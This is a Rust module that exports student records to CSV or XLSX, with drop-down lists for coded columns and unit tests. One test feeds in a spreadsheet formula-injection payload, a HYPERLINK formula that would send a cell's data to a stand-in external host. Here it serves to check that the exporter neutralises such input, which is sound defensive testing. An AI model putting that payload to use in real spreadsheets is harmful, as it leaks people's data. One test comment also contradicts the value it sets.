//! Writing: rows of text into CSV (UTF-8 with a byte-order mark, which spreadsheet programs
//! need to show Chinese) or into an XLSX workbook kept in constant memory (rows spill to a
//! temporary file as they are written), with drop-down lists for coded columns.

use rust_xlsxwriter::{DataValidation, Formula, Workbook, XlsxError};

use crate::{Format, SheetError};

/// The rows of one XLSX worksheet, header included.
pub const XLSX_MAX_ROWS: u32 = 1_048_576;

/// The hidden worksheet holding the values of the drop-down lists.
const CHOICES_SHEET: &str = "选项";

/// The values a coded column takes, offered as a drop-down list in an XLSX template.
#[derive(Debug, Clone)]
pub struct Choices {
    pub column: u16,
    /// What the cell means, shown when a clerk selects it (cut at 255 characters).
    pub note: String,
    /// The values offered; empty for a column that only carries a note.
    pub values: Vec<String>,
}

/// A sheet being written. CSV bytes can be taken as they are produced
/// ([`take_ready`](Self::take_ready)); an XLSX workbook is only complete at
/// [`finish`](Self::finish).
pub enum SheetWriter {
    Csv(Box<csv::Writer<Vec<u8>>>),
    Xlsx { workbook: Box<Workbook>, rows: u32 },
}

impl std::fmt::Debug for SheetWriter {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::Csv(_) => f.write_str("SheetWriter::Csv"),
            Self::Xlsx { rows, .. } => write!(f, "SheetWriter::Xlsx({rows} rows)"),
        }
    }
}

fn xlsx(error: XlsxError) -> SheetError {
    SheetError::Xlsx(error.to_string())
}

impl SheetWriter {
    pub fn new(format: Format) -> Result<Self, SheetError> {
        Ok(match format {
            Format::Csv => {
                let mut out = Vec::with_capacity(64 * 1024);
                out.extend_from_slice(&[0xEF, 0xBB, 0xBF]);
                Self::Csv(Box::new(csv::Writer::from_writer(out)))
            }
            Format::Xlsx => {
                let mut workbook = Workbook::new();
                workbook
                    .add_worksheet_with_constant_memory()
                    .set_name("学生")
                    .map_err(xlsx)?;
                Self::Xlsx {
                    workbook: Box::new(workbook),
                    rows: 0,
                }
            }
        })
    }

    pub fn write_row<S: AsRef<str>>(&mut self, cells: &[S]) -> Result<(), SheetError> {
        match self {
            Self::Csv(writer) => writer
                .write_record(
                    cells
                        .iter()
                        .map(|c| crate::neutralised(c.as_ref()).into_owned()),
                )
                .map_err(|e| SheetError::Csv(e.to_string())),
            Self::Xlsx { workbook, rows } => {
                if *rows >= XLSX_MAX_ROWS {
                    return Err(SheetError::TooManyRows);
                }
                let sheet = workbook.worksheet_from_index(0).map_err(xlsx)?;
                for (column, cell) in cells.iter().enumerate() {
                    let text = crate::neutralised(cell.as_ref());
                    if !text.is_empty() {
                        sheet
                            .write_string(*rows, column as u16, text.as_ref())
                            .map_err(xlsx)?;
                    }
                }
                *rows += 1;
                Ok(())
            }
        }
    }

    /// Drop-down lists and notes for the columns of a template (XLSX only; a CSV file has
    /// no place for them). The values go to a hidden worksheet the lists refer to, so a list
    /// is not limited to Excel's 255 characters of inline values.
    pub fn add_choices(&mut self, choices: &[Choices]) -> Result<(), SheetError> {
        let Self::Xlsx { workbook, .. } = self else {
            return Ok(());
        };
        let lists = workbook.add_worksheet();
        lists.set_name(CHOICES_SHEET).map_err(xlsx)?;
        for (list_column, choice) in choices.iter().enumerate() {
            for (row, value) in choice.values.iter().enumerate() {
                lists
                    .write_string(row as u32, list_column as u16, value)
                    .map_err(xlsx)?;
            }
        }
        lists.set_hidden(true);
        let sheet = workbook.worksheet_from_index(0).map_err(xlsx)?;
        for (list_column, choice) in choices.iter().enumerate() {
            sheet.set_column_width(choice.column, 16).map_err(xlsx)?;
            let note: String = choice.note.chars().take(255).collect();
            let mut validation = if choice.values.is_empty() {
                DataValidation::new().allow_any_value()
            } else {
                let letter = column_letter(list_column as u16);
                DataValidation::new()
                    .allow_list_formula(Formula::new(format!(
                        "={CHOICES_SHEET}!${letter}$1:${letter}${}",
                        choice.values.len()
                    )))
                    .set_error_message("请从下拉列表中选择 (choose a value from the list)")
                    .map_err(xlsx)?
            };
            validation = validation.set_input_message(note).map_err(xlsx)?;
            sheet
                .add_data_validation(
                    1,
                    choice.column,
                    XLSX_MAX_ROWS - 1,
                    choice.column,
                    &validation,
                )
                .map_err(xlsx)?;
        }
        Ok(())
    }

    /// The CSV bytes written so far (none for XLSX, which is only whole at the end).
    pub fn take_ready(&mut self) -> Result<Vec<u8>, SheetError> {
        match self {
            Self::Csv(writer) => {
                let full = std::mem::replace(writer.as_mut(), csv::Writer::from_writer(Vec::new()));
                full.into_inner()
                    .map_err(|e| SheetError::Csv(e.error().to_string()))
            }
            Self::Xlsx { .. } => Ok(Vec::new()),
        }
    }

    /// The rest of the file.
    pub fn finish(mut self) -> Result<Vec<u8>, SheetError> {
        match &mut self {
            Self::Csv(_) => self.take_ready(),
            Self::Xlsx { workbook, .. } => workbook.save_to_buffer().map_err(xlsx),
        }
    }
}

/// `A`, `B`, … `Z`, `AA`, …: a column's letters in a cell reference.
fn column_letter(mut column: u16) -> String {
    let mut letters = Vec::new();
    loop {
        letters.push(b'A' + (column % 26) as u8);
        if column < 26 {
            break;
        }
        column = column / 26 - 1;
    }
    letters.reverse();
    String::from_utf8(letters).expect("ASCII letters")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{read_csv, read_xlsx};

    fn sample() -> Vec<Vec<String>> {
        vec![
            vec!["姓名".into(), "出生日期".into(), "年级".into()],
            vec!["张𠀀三".into(), "2015-03-09".into(), "3".into()],
            vec!["李,\"四\"".into(), String::new(), "10".into()],
        ]
    }

    #[test]
    fn csv_and_xlsx_round_trip() {
        for format in [Format::Csv, Format::Xlsx] {
            let mut writer = SheetWriter::new(format).unwrap();
            for row in sample() {
                writer.write_row(&row).unwrap();
            }
            let mut bytes = writer.take_ready().unwrap();
            bytes.extend(writer.finish().unwrap());
            let mut rows = Vec::new();
            match format {
                Format::Csv => {
                    read_csv(&bytes[..], None, |row| {
                        rows.push(row.cells);
                        true
                    })
                    .unwrap();
                }
                Format::Xlsx => read_xlsx(std::io::Cursor::new(bytes), |row| {
                    rows.push(row.cells);
                    true
                })
                .unwrap(),
            }
            // An empty last cell is not stored in XLSX; the row reads shorter.
            let mut expected = sample();
            if format == Format::Xlsx {
                expected[2] = vec!["李,\"四\"".into(), String::new(), "10".into()];
            }
            assert_eq!(rows, expected, "{format:?}");
        }
    }

    #[test]
    fn a_template_carries_its_lists() {
        let mut writer = SheetWriter::new(Format::Xlsx).unwrap();
        writer.write_row(&["性别", "民族"]).unwrap();
        writer
            .add_choices(&[
                Choices {
                    column: 0,
                    note: "男 or 女".into(),
                    values: vec!["男".into(), "女".into()],
                },
                Choices {
                    column: 1,
                    note: "民族代码".into(),
                    values: (1..=56).map(|n| format!("{n:02}")).collect(),
                },
            ])
            .unwrap();
        let bytes = writer.finish().unwrap();
        let mut workbook: calamine::Xlsx<_> =
            calamine::Reader::new(std::io::Cursor::new(bytes)).unwrap();
        assert_eq!(calamine::Reader::sheet_names(&workbook), ["学生", "选项"]);
        let lists = calamine::Reader::worksheet_range(&mut workbook, "选项").unwrap();
        assert_eq!(lists.get_value((55, 1)).unwrap().to_string(), "56");
    }

    #[test]
    fn formula_like_text_is_written_neutralised_and_reads_back_as_it_was() {
        let values = [
            "=HYPERLINK(\"http://x.example/?\"&H2,\"点\")",
            "+8613800000000",
            "@SUM(1+1)",
            "－1",
            "王芳",
            "'ok",
        ];
        for format in [Format::Csv, Format::Xlsx] {
            let mut writer = SheetWriter::new(format).unwrap();
            writer.write_row(&values).unwrap();
            let bytes = writer.finish().unwrap();
            if format == Format::Csv {
                let text = String::from_utf8_lossy(&bytes);
                assert!(
                    text.contains("\"'=HYPERLINK") && text.contains("'+86"),
                    "{text}"
                );
            } else {
                let mut workbook: calamine::Xlsx<_> =
                    calamine::Reader::new(std::io::Cursor::new(bytes.clone())).unwrap();
                let sheet = calamine::Reader::worksheet_range(&mut workbook, "学生").unwrap();
                assert_eq!(sheet.get_value((0, 2)).unwrap().to_string(), "'@SUM(1+1)");
            }
            let mut read = Vec::new();
            let collect = |row: crate::Row| {
                read = row.cells;
                true
            };
            match format {
                Format::Csv => {
                    crate::read_csv(bytes.as_slice(), None, collect).unwrap();
                }
                Format::Xlsx => crate::read_xlsx(std::io::Cursor::new(bytes), collect).unwrap(),
            }
            assert_eq!(read, values, "{format:?}");
        }
    }

    #[test]
    fn a_long_number_cell_reads_as_the_spreadsheet_shows_it_not_as_digits() {
        let mut workbook = rust_xlsxwriter::Workbook::new();
        let sheet = workbook.add_worksheet();
        sheet.write_number(0, 0, 350102202003115246.0).unwrap();
        sheet.write_number(0, 1, 2135000101.0).unwrap();
        let bytes = workbook.save_to_buffer().unwrap();
        let mut cells = Vec::new();
        crate::read_xlsx(std::io::Cursor::new(bytes), |row| {
            cells = row.cells;
            true
        })
        .unwrap();
        assert!(cells[0].contains('E'), "{cells:?}");
        assert_ne!(cells[0], "350102202003115246");
        assert_eq!(cells[1], "2135000101");
    }

    #[test]
    fn column_letters() {
        assert_eq!(column_letter(0), "A");
        assert_eq!(column_letter(25), "Z");
        assert_eq!(column_letter(26), "AA");
        assert_eq!(column_letter(27), "AB");
    }
}
